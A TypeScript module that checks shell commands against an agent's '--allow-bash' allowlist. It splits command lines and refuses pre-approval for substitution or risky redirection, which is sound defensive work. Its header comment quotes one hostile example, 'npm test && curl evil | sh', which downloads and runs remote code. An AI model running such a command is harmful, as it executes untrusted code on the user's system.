/**
 * `--allow-bash PATTERN`: which commands run without asking.
 *
 * A pattern is a prefix (`npm test` allows `npm test` and `npm test -- --watch`, not `npm testify`;
 * Claude Code's `npm test:*` and `Bash(npm test:*)` mean the same) or, when it holds `*` or `?`, a
 * glob over the whole command (`*` = any characters, `?` = one).
 *
 * A prefix must not let a second command ride along (`npm test && curl evil | sh`), so a command is
 * first split into its simple commands at `;`, `&`, `&&`, `|`, `||` and newlines (quotes and
 * backslashes respected), and every one of them must match a pattern. A command is never pre-approved
 * when it holds something that could run or write what no pattern names: command substitution
 * (`$(…)`, backticks), process substitution, or a redirection other than `N>&M` and `N>/dev/null`.
 * Such commands are asked about (or refused) instead.
 */

/** The simple commands of a shell command line, or why it cannot be pre-approved. */
export type CommandSplit = { ok: true; commands: string[] } | { ok: false; reason: string };

/** Redirections that write nowhere new: `2>&1`, `>&2`, `>/dev/null`, `2> /dev/null`. */
const HARMLESS_REDIRECT = /^\d?>(?:&\d|\s*\/dev\/null(?![^\s;&|)]))/;

/** Split `command` into simple commands, or say why it is not simple enough to pre-approve. */
export function splitSimpleCommands(command: string): CommandSplit {
  const commands: string[] = [];
  let current = '';
  let quote: "'" | '"' | undefined;
  const flush = (): void => {
    const trimmed = current.trim();
    if (trimmed !== '') commands.push(trimmed);
    current = '';
  };
  for (let i = 0; i < command.length; i++) {
    const ch = command[i]!;
    const rest = command.slice(i);
    if (quote === "'") {
      current += ch;
      if (ch === "'") quote = undefined;
      continue;
    }
    if (ch === '\\') {
      // An escaped character is literal, whatever it is (a line continuation included).
      current += rest.slice(0, 2);
      i++;
      continue;
    }
    if (ch === '`' || rest.startsWith('$(')) return { ok: false, reason: 'it uses command substitution' };
    if (quote === '"') {
      current += ch;
      if (ch === '"') quote = undefined;
      continue;
    }
    if (ch === "'" || ch === '"') {
      quote = ch;
      current += ch;
      continue;
    }
    if (ch === '<' || ch === '>' || (/^\d[<>]/.test(rest) && /(^|\s)$/.test(current))) {
      const redirect = HARMLESS_REDIRECT.exec(rest);
      if (redirect === null) return { ok: false, reason: 'it redirects input or output' };
      current += redirect[0];
      i += redirect[0].length - 1;
      continue;
    }
    if (ch === ';' || ch === '\n' || ch === '&' || ch === '|') {
      flush();
      continue;
    }
    current += ch;
  }
  if (quote !== undefined) return { ok: false, reason: 'it has an unterminated quote' };
  flush();
  return { ok: true, commands };
}

/** `Bash(npm test:*)` → `npm test:*`; other patterns unchanged (trimmed). */
function unwrapPattern(pattern: string): string {
  const p = pattern.trim();
  const wrapped = /^Bash\((.*)\)$/s.exec(p);
  return (wrapped?.[1] ?? p).trim();
}

/** Does one simple command match one pattern (prefix, `prefix:*`, or glob)? */
export function matchesAllowPattern(simpleCommand: string, pattern: string): boolean {
  const p = unwrapPattern(pattern);
  if (p === '') return false;
  if (p.endsWith(':*')) return matchesPrefix(simpleCommand, p.slice(0, -2).trimEnd());
  if (p.includes('*') || p.includes('?')) return globToRegExp(p).test(simpleCommand);
  return matchesPrefix(simpleCommand, p);
}

function matchesPrefix(command: string, prefix: string): boolean {
  if (prefix === '') return false;
  return command === prefix || (command.startsWith(prefix) && /\s/.test(command.charAt(prefix.length)));
}

function globToRegExp(glob: string): RegExp {
  const body = [...glob]
    .map((ch) => (ch === '*' ? '[\\s\\S]*' : ch === '?' ? '[\\s\\S]' : ch.replace(/[\\^$.|+(){}[\]]/g, '\\$&')))
    .join('');
  return new RegExp(`^${body}$`);
}

/** True when every simple command of `command` matches one of `patterns`. */
export function isPreApproved(command: string, patterns: readonly string[]): boolean {
  if (patterns.length === 0) return false;
  const split = splitSimpleCommands(command);
  if (!split.ok || split.commands.length === 0) return false;
  return split.commands.every((simple) => patterns.some((pattern) => matchesAllowPattern(simple, pattern)));
}

/**
 * A pattern to suggest in a refusal (`--allow-bash '…'`): the command's first simple command,
 * shell-quoted, or `undefined` when there is nothing sensible to suggest.
 */
export function suggestAllowPattern(command: string): string | undefined {
  const split = splitSimpleCommands(command);
  const first = split.ok ? split.commands[0] : undefined;
  if (first === undefined || first.length > 80) return undefined;
  return `'${first.replace(/'/g, `'\\''`)}'`;
}
